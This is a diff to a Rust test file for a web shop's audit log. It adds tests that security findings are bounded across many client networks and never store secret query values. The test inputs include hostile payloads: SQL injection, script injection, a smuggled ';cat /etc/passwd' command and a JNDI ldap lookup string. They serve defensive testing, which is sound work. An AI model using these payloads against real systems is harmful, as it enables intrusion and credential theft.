@@ -11,6 +11,8 @@ use crate::support::{PASSWORD, TestResult, TestShop};
 on_every_database! {
     hostile_headers_neither_disturb_a_request_nor_spoil_the_log,
     hostile_names_are_stored_bounded_and_clean,
+    findings_of_many_networks_are_bounded,
+    findings_hold_no_secrets,
 }
 
 /// Sends bytes, and returns the status and the request's id.
@@ -49,7 +51,8 @@ async fn look_with(shop: &TestShop, header: &[u8]) -> TestResult<audit_log::Mode
 /// Nothing in it does more to a terminal than to be printed.
 fn is_clean(text: &str) -> bool {
     !text.chars().any(|char| {
-        char.is_control() || matches!(char, '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+        char.is_control()
+            || matches!(char, '\u{61c}' | '\u{200e}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
     })
 }
 
@@ -110,6 +113,10 @@ async fn hostile_headers_neither_disturb_a_request_nor_spoil_the_log(
         "<script>",
         &"x".repeat(500),
         "'; DROP TABLE audit_log",
+        "=1+2",
+        "+1",
+        "-1",
+        "@a",
     ] {
         let record = look_with(shop, format!("x-request-id: {id}").as_bytes()).await?;
         assert_ne!(record.request_id.as_deref(), Some(id));
@@ -196,5 +203,106 @@ async fn hostile_names_are_stored_bounded_and_clean(shop: &TestShop) -> TestResu
             assert!(is_clean(text), "{text:?}");
         }
     }
+    Ok(())
+}
+
+/// Asks for these targets over one connection, each as another client. The proxy's word on the address is believed.
+async fn ask_as(shop: &TestShop, requests: &[(String, String)]) -> TestResult {
+    let mut socket = TcpStream::connect(shop.address).await?;
+    let last = requests.len() - 1;
+    let mut text = String::new();
+    for (number, (target, client)) in requests.iter().enumerate() {
+        let connection = if number == last {
+            "close"
+        } else {
+            "keep-alive"
+        };
+        text += &format!(
+            "GET {target} HTTP/1.1\r\nhost: shop\r\nx-forwarded-for: {client}\r\nconnection: {connection}\r\n\r\n"
+        );
+    }
+    let (mut reads, mut writes) = socket.split();
+    let mut answers = Vec::new();
+    let (sent, read) = tokio::join!(
+        writes.write_all(text.as_bytes()),
+        reads.read_to_end(&mut answers)
+    );
+    sent?;
+    read?;
+    let answers = String::from_utf8_lossy(&answers);
+    assert_eq!(answers.matches("HTTP/1.1 ").count(), requests.len());
+    Ok(())
+}
+
+/// An owner of many networks, and many owners.
+async fn findings_of_many_networks_are_bounded(shop: &TestShop) -> TestResult {
+    const PROBE: &str = "/wp-admin";
+    let owner: Vec<_> = (0..2_000)
+        .map(|network| (PROBE.to_owned(), format!("2001:db8:7:{network:x}::1")))
+        .collect();
+    ask_as(shop, &owner).await?;
+    let security = async || -> TestResult<Vec<_>> {
+        let events = shop.events().await?;
+        Ok((events.into_iter())
+            .filter(|event| event.event_type == "SECURITY")
+            .collect())
+    };
+    let found = security().await?;
+    // Those of 200 networks, and one for all others.
+    assert_eq!(found.len(), 201);
+    let counted: i64 = found.iter().map(|event| event.occurrences).sum();
+    assert_eq!(counted, 2_000);
+    let others = found.iter().find(|event| event.occurrences > 1);
+    let others = others.ok_or("no event for the others")?;
+    assert_eq!(others.occurrences, 1_800);
+    let said = others.description.as_deref().unwrap_or_default();
+    assert!(said.contains("2001:db8:7::/48"), "{said}");
+
+    let many: Vec<_> = (0..3_000)
+        .map(|number| {
+            (
+                PROBE.to_owned(),
+                format!("198.{}.{}.7", 18 + number / 250, number % 250),
+            )
+        })
+        .collect();
+    for some in many.chunks(500) {
+        ask_as(shop, some).await?;
+        // So that the writer has room, and none is dropped.
+        shop.events().await?;
+    }
+    let found = security().await?;
+    assert_eq!(
+        found.len(),
+        2_002,
+        "2,000 one by one, and two for the others"
+    );
+    let counted: i64 = found.iter().map(|event| event.occurrences).sum();
+    assert_eq!(counted, 5_000);
+    Ok(())
+}
+
+async fn findings_hold_no_secrets(shop: &TestShop) -> TestResult {
+    const SECRET: &str = "hunter2hunter2";
+    let targets = [
+        "/products?pass=SECRET'+or+1=1--",
+        "/products?sid=SECRET%00",
+        "/products?sig=SECRET%3Cscript%3Ealert(1)",
+        "/products?auth=SECRET;cat+/etc/passwd",
+        "/products?key=SECRET'+union+select+1,2",
+        "/products?card=SECRET'--+",
+        "/products?refresh=SECRET$%7Bjndi:ldap://x/a%7D",
+        "/products?next=/cb?token=SECRET%26x=%3Csvg/onload=alert(1)%3E",
+        "/products?q=%7B%22password%22:%22SECRET%22,%22x%22:%22'+or+1=1--%22%7D",
+    ];
+    for target in targets {
+        let target = target.replace("SECRET", SECRET);
+        ask_as(shop, &[(target, "192.0.2.9".to_owned())]).await?;
+    }
+    let events = shop.events().await?;
+    let found = events.iter().filter(|event| event.event_type == "SECURITY");
+    let found: i64 = found.map(|event| event.occurrences).sum();
+    assert_eq!(found, i64::try_from(targets.len())?);
+    assert!(!shop.dump().await?.contains(SECRET));
     Ok(())
 }
